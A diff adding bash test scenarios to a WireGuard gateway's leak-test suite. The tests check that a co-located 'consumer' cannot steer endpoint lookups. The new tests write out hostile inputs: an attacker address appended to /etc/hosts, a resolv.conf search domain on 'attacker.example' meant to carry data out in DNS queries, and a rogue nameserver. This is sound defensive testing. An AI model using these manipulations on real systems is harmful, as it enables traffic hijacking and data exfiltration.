@@ -282,6 +282,145 @@ except OSError: pass
   in_srv nft delete rule netdev leak in handle "$(in_srv nft -a list chain netdev leak in | sed -n 's/.*comment "dns" # handle \([0-9]*\).*/\1/p')"
 }
 
+# ---- the endpoint lookup a consumer must not steer (issue 9) ----
+# A DNS server at 192.0.2.1, the namespace's resolver in /etc/resolv.conf: vpn.test and vpn2.test
+# are 192.0.2.1, other names NXDOMAIN; every name asked is logged to $DNS_LOG. Lookups through
+# the hole are counted apart ("dns"); packets towards 203.0.113.66, the consumers' address,
+# are counted by themselves ("to-evil") and as leaks.
+EVIL=203.0.113.66
+start_logging_dns() {
+  DNS_LOG=$WG_DIR/dns-queries.log
+  : >"$DNS_LOG"
+  wg_spawn ip netns exec "$NS_SRV" python3 -c '
+import socket, sys
+log = open(sys.argv[1], "a")
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("192.0.2.1", 53))
+while True:
+    q, a = s.recvfrom(512)
+    i, labels = 12, []
+    while q[i]: labels.append(q[i + 1:i + 1 + q[i]].decode(errors="replace")); i += q[i] + 1
+    name = ".".join(labels); log.write(name + "\n"); log.flush()
+    qtype = q[i + 1] << 8 | q[i + 2]
+    r = bytearray(q[:i + 5]); r[2] = 0x81; r[3] = 0x80; r[6:12] = bytes(6)
+    if name.lower() not in ("vpn.test", "vpn2.test"):
+        r[3] = 0x83
+    elif qtype == 1:
+        r[7] = 1; r += bytes([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 1])
+    s.sendto(bytes(r), a)
+' "$DNS_LOG" >/dev/null 2>&1
+  DNS_PID=${WG_PIDS[-1]}
+  for _ in $(seq 50); do in_srv ss -lun | grep -q '192.0.2.1:53 ' && break; sleep 0.1; done
+  in_srv nft insert rule netdev leak in ip daddr 192.0.2.1 meta l4proto '{ tcp, udp }' th dport 53 counter accept comment '"dns"'
+  in_srv nft insert rule netdev leak in ip daddr "$EVIL" counter comment '"to-evil"'
+}
+stop_logging_dns() {
+  kill "$DNS_PID" 2>/dev/null; wait "$DNS_PID" 2>/dev/null
+  local c h
+  for c in dns to-evil; do
+    h=$(in_srv nft -a list chain netdev leak in | sed -n "s/.*comment \"$c\" # handle \([0-9]*\).*/\1/p")
+    [ -n "$h" ] && in_srv nft delete rule netdev leak in handle "$h"
+  done
+}
+packets_to_evil() { in_srv nft list chain netdev leak in | sed -n 's/.*packets \([0-9]*\).*comment "to-evil".*/\1/p'; }
+endpoint_is() { gw_status | grep -q "endpoint: $1"; }
+# Forgets the namespace's recorded original resolv.conf and the gateway's backup of it: a
+# recreated gateway after another NET_ADMIN process flushed the ruleset, or a first start.
+forget_resolv_origin() {
+  in_gw nft delete table inet wgate_origin 2>/dev/null
+  rm -f "/run/wgate/resolv-net$(in_gw stat -L -c %i /proc/self/ns/net).conf.orig"
+}
+
+scenario_hosts_file_poisoning() {
+  start_logging_dns
+  # `ip netns exec` bind-mounts /etc/netns/NAME/hosts over /etc/hosts: the file the gateway and
+  # its consumers share, as Docker's service: containers do.
+  printf '127.0.0.1 localhost\n' >"/etc/netns/$NS_GW/hosts"
+  wg_write_config "$WG_CONF" "$(cat "$WG_DIR/srv.pub")" vpn.test:51820
+  wg_start_gateway
+  check "connects to the resolved endpoint" wait_state connected
+  reset_leaks
+  # A root consumer points the endpoint's name at its own address; then the config is reloaded
+  # twice (SIGHUP, and an edit that keeps the Endpoint).
+  in_gw sh -c "echo '$EVIL vpn.test' >>/etc/hosts"
+  kill -HUP "$WGATE_PID"
+  sleep 1
+  wg_write_config "$WG_CONF" "$(cat "$WG_DIR/srv.pub")" vpn.test:51820 "MTU = 1380"
+  sleep 2
+  check "connected after the reloads" wait_state connected
+  check "the endpoint is still the DNS answer" endpoint_is 192.0.2.1:51820
+  check "the reload took effect" bash -c "ip netns exec '$NS_GW' ip link show '$WG_GW_IF' | grep -q 'mtu 1380'"
+  check "not one packet to the hosts file's address" eq "$(packets_to_evil)" 0
+  check "through the tunnel" eq "$(consumer_fetch 5)" 198.51.100.2
+  check "no leaks" no_leaks
+  stop_logging_dns
+  rm -f "/etc/netns/$NS_GW/hosts"
+}
+
+scenario_search_domain_exfiltration() {
+  start_logging_dns
+  wg_write_config "$WG_CONF" "$(cat "$WG_DIR/srv.pub")" vpn.test:51820
+  wg_start_gateway
+  check "connects" wait_state connected
+  reset_leaks
+  # A consumer rewrites the shared resolv.conf to carry its data out in wgate's own queries.
+  in_gw sh -c 'printf "nameserver 192.0.2.1\nsearch secret-42.attacker.example\noptions ndots:9\n" >/etc/resolv.conf'
+  kill -HUP "$WGATE_PID"
+  sleep 1
+  # A new Endpoint text makes wgate look up, with the consumer's file in place.
+  wg_write_config "$WG_CONF" "$(cat "$WG_DIR/srv.pub")" vpn2.test:51820
+  sleep 2
+  check "connected after the reloads" wait_state connected
+  check "the new name was looked up" grep -qx vpn2.test "$DNS_LOG"
+  check "no query carried the search domain" eq "$(grep -c attacker "$DNS_LOG")" 0
+  check "only the two names were asked" eq "$(sort -u "$DNS_LOG" | tr '\n' ' ')" "vpn.test vpn2.test "
+  check "through the tunnel" eq "$(consumer_fetch 5)" 198.51.100.2
+  check "no leaks" no_leaks
+  stop_logging_dns
+  printf 'nameserver 192.0.2.1\n' >"/etc/netns/$NS_GW/resolv.conf"
+}
+
+scenario_consumer_resolv_conf_on_first_start() {
+  start_logging_dns
+  local original
+  original=$(cat "/etc/netns/$NS_GW/resolv.conf")
+  # 1. A recreated gateway with no record of the original left: the shared file holds its
+  # predecessor's rewrite. After the lockdown a consumer writes its own resolver there.
+  forget_resolv_origin
+  printf '# Written by wgate: DNS goes through the WireGuard tunnel.\nnameserver 198.51.100.1\n' \
+    >"/etc/netns/$NS_GW/resolv.conf"
+  wg_write_config "$WG_CONF" "$(cat "$WG_DIR/srv.pub")" vpn.test:51820
+  wg_start_gateway
+  check "blocked" wait_state blocked
+  check "saying no resolver was recorded at lockdown" bash -c "ip netns exec '$NS_GW' '$WGATE' status | grep -q 'no resolver was recorded at lockdown'"
+  in_gw sh -c "echo 'nameserver $EVIL' >/etc/resolv.conf"
+  kill -HUP "$WGATE_PID"
+  sleep 6  # past the 5 s retry after a transient failure
+  check "still blocked" wait_state blocked
+  check "nothing asked the consumer's resolver" eq "$(packets_to_evil)" 0
+  check "nothing asked at all" eq "$(wc -l <"$DNS_LOG")" 0
+  check "no leaks" no_leaks
+  stop_gateway
+  # 2. A first start with a config without DNS (wgate never rewrites the file): the resolver
+  # at lockdown is the one asked, whatever a consumer writes afterwards.
+  forget_resolv_origin
+  printf '%s\n' "$original" >"/etc/netns/$NS_GW/resolv.conf"
+  wg_write_config "$WG_CONF" "$(cat "$WG_DIR/srv.pub")" vpn.test:51820
+  sed -i '/^DNS = /d' "$WG_CONF"
+  wg_start_gateway
+  check "connects" wait_state connected
+  in_gw sh -c "echo 'nameserver $EVIL' >/etc/resolv.conf"
+  wg_write_config "$WG_CONF" "$(cat "$WG_DIR/srv.pub")" vpn2.test:51820
+  sed -i '/^DNS = /d' "$WG_CONF"
+  sleep 2
+  check "connected with the new name" wait_state connected
+  check "which the lockdown's resolver answered" grep -qx vpn2.test "$DNS_LOG"
+  check "nothing asked the consumer's resolver" eq "$(packets_to_evil)" 0
+  check "through the tunnel" eq "$(consumer_fetch 5)" 198.51.100.2
+  check "no leaks" no_leaks
+  stop_logging_dns
+  printf '%s\n' "$original" >"/etc/netns/$NS_GW/resolv.conf"
+}
+
 scenario_ruleset_flushed_from_outside() {
   fresh_config
   wg_start_gateway
@@ -512,7 +651,8 @@ all=(healthy_tunnel malformed_config missing_config wgate_down sigkill server_un
      ipv6_probe_with_ipv4_config dns_outside_the_tunnel tunnel_deleted_from_outside reload_while_sending
      lan_and_published_port hostname_endpoint ruleset_flushed_from_outside unblock_opens
      blackhole_fallback_without_nftables healthy_before_any_traffic
-     hold_keeps_consumers_across_gateway_restarts table_deleted_under_continuous_sender)
+     hold_keeps_consumers_across_gateway_restarts table_deleted_under_continuous_sender
+     hosts_file_poisoning search_domain_exfiltration consumer_resolv_conf_on_first_start)
 selected=("$@")
 [ ${#selected[@]} -gt 0 ] || selected=("${all[@]}")
 
